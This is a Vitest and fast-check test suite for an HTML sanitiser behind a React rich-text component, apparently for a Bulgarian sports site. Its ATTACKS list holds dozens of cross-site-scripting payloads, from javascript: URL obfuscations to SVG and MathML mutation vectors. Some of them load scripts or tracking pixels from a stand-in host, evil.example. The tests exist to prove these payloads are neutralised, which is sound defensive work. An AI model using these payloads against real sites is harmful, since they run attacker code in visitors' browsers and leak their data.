import fc from 'fast-check';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it, vi } from 'vitest';
import { parseRichText, type RichNode } from '#domain/rich-text/parse-rich-text.ts';
import { RichText } from './rich-text.tsx';

const complain = vi.spyOn(console, 'error');

const shown = (html: string): string =>
  renderToStaticMarkup(<RichText html={html} />)
    .replace(/^<div[^>]*>(.*)<\/div>$/s, '$1')
    .replaceAll(/ (loading="lazy"|decoding="async")/g, '');

describe('allowed elements', () => {
  it.each([
    '<p>Дума <strong>силна</strong>, <em>тиха</em>, <u>важна</u>, <s>грешна</s><br/>и нов ред</p><hr/>',
    '<h2>Едно</h2><h3>Две</h3><h4>Три</h4>',
    '<ul><li>Гол</li><li>Асистенция<ol><li>Лява</li></ol></li></ul>',
    '<blockquote><p>Думи</p><p><em>Капитанът</em></p></blockquote>',
    '<figure><img src="/media/a.webp" alt="Купата"/><figcaption>След <strong>финала</strong></figcaption></figure>',
    '<table><thead><tr><th>Отбор</th></tr></thead><tbody><tr><td>Балик</td></tr></tbody></table>',
    '<p><a href="/team/3?tab=Squad#top">Балик</a> <a href="mailto:a@b.bg">писмо</a></p>',
  ])('stays: %s', (html) => {
    expect(shown(html)).toBe(html);
  });

  it('are replaced by the equivalent that articles use', () => {
    expect(shown('<h1>А</h1><p><b>б</b><i>в</i><del>г</del></p><h6>д</h6>')).toBe(
      '<h2>А</h2><p><strong>б</strong><em>в</em><s>г</s></p><h4>д</h4>',
    );
  });

  it('external links open in a new tab with noopener', () => {
    expect(shown('<p><a href="HTTPS://Example.com/a">x</a></p>')).toBe(
      '<p><a href="https://example.com/a" target="_blank" rel="noopener nofollow">x</a></p>',
    );
  });

  it('pictures keep their size if both dimensions are given', () => {
    expect(shown('<img src="https://a.example/b.jpg" width="600" height="400">')).toBe(
      '<p><img src="https://a.example/b.jpg" alt="" width="600" height="400"/></p>',
    );
    expect(shown('<img src="/a.jpg" width="100%" height="9">')).toBe('<p><img src="/a.jpg" alt=""/></p>');
  });

  it('decodes entities once', () => {
    expect(shown('<p title="&quot;>&lt;">2&nbsp;&lt;&#51; &amp;lt;b&gt; &constructor; &#xD800;</p>')).toBe(
      '<p>2\u00a0&lt;3 &amp;lt;b&gt; &amp;constructor; &amp;#xD800;</p>',
    );
  });
});

describe('other elements', () => {
  it('are reduced to their text', () => {
    expect(shown('<p><span style="color:red">а</span><font size=9>б</font><my-tag onclick=x()>в</my-tag></p>')).toBe(
      '<p>абв</p>',
    );
  });

  it('keep lines apart', () => {
    expect(shown('<div>Едно</div><div>Две<section>Три</section></div>')).toBe('<p>Едно</p><p>Две</p><p>Три</p>');
    expect(shown('Първи ред\r\n\r\nВтори ред\nТрети < втори')).toBe(
      '<p>Първи ред</p><p>Втори ред</p><p>Трети &lt; втори</p>',
    );
  });

  it('leave no empty paragraphs and lists', () => {
    expect(shown('<p>&nbsp;</p><p><strong></strong><br></p> <ul> <li> </li> </ul><p>а</p><!-- б -->')).toBe('<p>а</p>');
  });

  it('are moved where they are allowed', () => {
    expect(shown('<p>а<ul>б<li>в<p>г</ul>')).toBe('<p>а</p><ul><li>б</li><li>в<p>г</p></li></ul>');
    expect(shown('<li>а</li><td>б</td>')).toBe('<p>а</p><p>б</p>');
    expect(shown('<table>а<tr><td>б<tr>в')).toBe(
      '<table><tbody><tr><td>а</td></tr><tr><td>б</td></tr><tr><td>в</td></tr></tbody></table>',
    );
    expect(shown('<a href="/a">а<a href="/b">б</a>')).toBe('<p><a href="/a">а</a><a href="/b">б</a></p>');
    expect(shown('<b>а<p>б</b>в</p>')).toBe('<p><strong>а</strong></p><p>бв</p>');
  });

  it('are limited in depth', () => {
    const depthOf = (nodes: RichNode[]): number =>
      Math.max(
        0,
        ...nodes.map((node) => (typeof node !== 'string' && 'children' in node ? 1 + depthOf(node.children) : 0)),
      );
    const deep = parseRichText(`${'<blockquote>'.repeat(50_000)}дъно`);
    expect(depthOf(deep)).toBeLessThan(30);
    expect(JSON.stringify(deep)).toContain('дъно');
  });

  it('parsing takes linear time', () => {
    const began = performance.now();
    for (const piece of [
      '<',
      '<a ',
      '<a b="',
      "<a b='c",
      '<!--',
      '<script>',
      '<svg>',
      '</',
      '&#1',
      '&a',
      '<p',
      '<ul><li>',
    ])
      parseRichText(piece.repeat(100_000));
    expect(performance.now() - began).toBeLessThan(10_000);
  });
});

/** Known ways to make a page run what it should only show. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1);//<</script>',
  '<script/x>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="http://evil.example/spy.gif">',
  '<img """><script>alert(1)</script>">',
  '<img src=/a.png srcset="javascript:alert(1)" onload=alert(1)//>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav\nascript:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="blob:https://a.example/1">x</a>',
  '<a href="//this.invalid@evil.example">x</a>',
  '<a href="https://league.example@evil.example/">x</a>',
  '<a href="/a" onclick="alert(1)" style="position:fixed;inset:0" target=x ping=//evil.example>x</a>',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext></p><img src=x onerror=alert(1)></math>',
  '<iframe src="javascript:alert(1)"></iframe><iframe srcdoc="<script>alert(1)</script>">',
  '<object data="javascript:alert(1)"><p>x</object><embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><input type=submit><button formaction="javascript:alert(1)">x</button></form>',
  '<style>@import "javascript:alert(1)"</style><link rel=stylesheet href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)"><base href="javascript:/">',
  '<body onload=alert(1)><details open ontoggle=alert(1)><marquee onstart=alert(1)>x',
  '<p id="state" class="x" data-y="z" __proto__="1" constructor=2 dangerouslySetInnerHTML=3 key=4 ref=5>x</p>',
  '<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img src=x onerror=alert(1)></textarea><title><img src=x onerror=alert(1)></title>',
  '<!--><img src=x onerror=alert(1)>--><!-- --!><img src=x onerror=alert(1)> -->',
  '<?xml <img src=x onerror=alert(1)>?><![CDATA[<img src=x onerror=alert(1)>]]>',
  '<constructor>x</constructor><__proto__>x</__proto__><toString>x</toString>',
  '<a href="/.//evil.example">x</a><img src="/.//evil.example/x">',
  '<a href="/\\evil.example">x</a><a href="/\t/evil.example">x</a>',
];

const ELEMENTS =
  'p h2 h3 h4 strong em u s ul ol li blockquote a img figure figcaption br hr table thead tbody tfoot tr td th';
const ATTRIBUTES: Partial<Record<string, string>> = {
  a: 'href target rel',
  img: 'src alt width height loading decoding',
};

/** What a browser makes of the page, or what is wrong with it. */
function inspect(html: string): void {
  const page = document.createElement('div');
  page.innerHTML = shown(html);
  for (const element of page.querySelectorAll('*')) {
    const name = element.localName;
    expect(ELEMENTS.split(' ')).toContain(name);
    for (const { name: attribute } of element.attributes)
      expect(ATTRIBUTES[name]?.split(' ') ?? []).toContain(attribute);
    const href = element.getAttribute('href');
    if (href !== null) expect(href).toMatch(/^(\/(?!\/)|https?:\/\/[^@/]*(\/|$)|mailto:)/);
    if (href !== null && href.startsWith('http')) expect(element.getAttribute('rel')).toBe('noopener nofollow');
    if (name === 'img') expect(element.getAttribute('src')).toMatch(/^(\/(?!\/)|https:\/\/)/);
  }
  // Had the browser moved or closed anything, the page would not be the server's any more.
  expect(outlineOfDom(page)).toBe(outline(parseRichText(html)));
}

const outline = (nodes: RichNode[]): string =>
  nodes
    .map((node) =>
      typeof node === 'string' ? node : `<${node.tag}>${'children' in node ? outline(node.children) : ''}</>`,
    )
    .join('');
const outlineOfDom = (parent: Node): string =>
  [...parent.childNodes]
    .map((node) => (node instanceof Element ? `<${node.localName}>${outlineOfDom(node)}</>` : (node.textContent ?? '')))
    .join('');

describe('malicious HTML', () => {
  it.each(ATTACKS)('is rendered harmless: %s', (html) => {
    inspect(html);
    inspect(`<ul><li>${html}`);
    expect(shown(html)).not.toMatch(/<script|javascript:|onerror|evil\.example\/(x|spy)/);
    expect(complain).not.toHaveBeenCalled();
  });

  const piece = fc.oneof(
    fc.constantFrom(...ATTACKS),
    fc.constantFrom(...ELEMENTS.split(' '), 'div', 'span', 'script', 'svg', 'b', 'h1').map((name) => `<${name}>`),
    fc.constantFrom(...ELEMENTS.split(' '), 'div', 'span', 'script', 'svg', 'b', 'h1').map((name) => `</${name}>`),
    fc.constantFrom(' ', 'дума', '&lt;', '&nbsp;', '<', '>', '"', "'", '=', '/', '<!--', '-->', '\n', '\0', '\ud800'),
    fc
      .tuple(fc.constantFrom('a', 'img'), fc.constantFrom('href', 'src'), fc.oneof(fc.webUrl(), fc.string()))
      .map(([name, attribute, value]) => `<${name} ${attribute}="${value}">`),
    fc.string({ unit: 'binary' }),
  );

  it('yields only allowed elements in allowed places, and never throws', () => {
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => inspect(pieces.join(''))),
      { numRuns: 500 },
    );
    expect(complain).not.toHaveBeenCalled();
  });

  it('keeps all visible text', () => {
    const visible = fc
      .constantFrom(...ELEMENTS.split(' '), 'div', 'span')
      .chain((name) => fc.constantFrom(`<${name}>`, `</${name}>`));
    const letters = fc.stringMatching(/^[а-я]{1,5}$/);
    fc.assert(
      fc.property(fc.array(fc.oneof(visible, letters), { maxLength: 40 }), (pieces) => {
        const words = pieces.filter((each) => !each.startsWith('<')).join('');
        expect(outline(parseRichText(pieces.join(''))).replaceAll(/<[^>]*>|\s/g, '')).toBe(words);
      }),
    );
  });
});
